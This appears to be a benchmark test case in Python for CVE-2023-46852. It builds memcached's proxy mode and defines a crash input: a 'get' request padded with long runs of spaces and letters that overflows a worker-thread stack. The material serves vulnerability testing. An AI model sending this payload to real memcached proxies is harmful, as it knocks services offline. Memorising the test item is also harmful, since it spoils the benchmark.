"""memcached as a proxy: four worker threads, on whose stacks the hole is. A
second one, without the agent's interest, is the server behind it."""
from case import Attack, Case
from service import Service, exchange, free_port
from source import Source

FIX = "debian/patches/0009-CVE-2023-46852.patch"
SOURCE = Source(
    "memcached", "1.6.18-1+deb12u1", fixes=[FIX],
    needs="libevent-dev",
    configure="./configure --enable-proxy --disable-docs",
    make='make -j"$(nproc)"')
ROUTES = """function mcp_config_pools(old)
  return mcp.pool({mcp.backend("b1", "127.0.0.1", "%d")})
end
function mcp_config_routes(pool)
  mcp.attach(mcp.CMD_ANY_STORAGE, function(r) return pool(r) end)
end
"""


class Helper:
    def __init__(self, service):
        self.close = service.end


def start():
    program = SOURCE.path("memcached")
    server = Service(program, "-u", "root", "-l", "127.0.0.1", "-p", "{port}",
                     "-U", "0")
    proxy = Service(program, "-u", "root", "-l", "127.0.0.1", "-p", "{port}",
                    "-U", "0", "-t", "4", "-o", "proxy_config={dir}/routes.lua",
                    files={"routes.lua": ROUTES % server.port})
    proxy.helpers.append(Helper(server))
    return proxy


CASES = [Case(
    "09", SOURCE, labels="CVE-2023-46852", fix=FIX, targets="memcached",
    start=start,
    works=lambda service: exchange(service.port, "get abc\r\n") == "END\r\n",
    attacks=[Attack(
        lambda service: exchange(service.port, "get" + " " * 1200 + "a" * 200 +
                                 " b c\r\n"),
        "died", "^(SERVER|CLIENT)_ERROR")])]
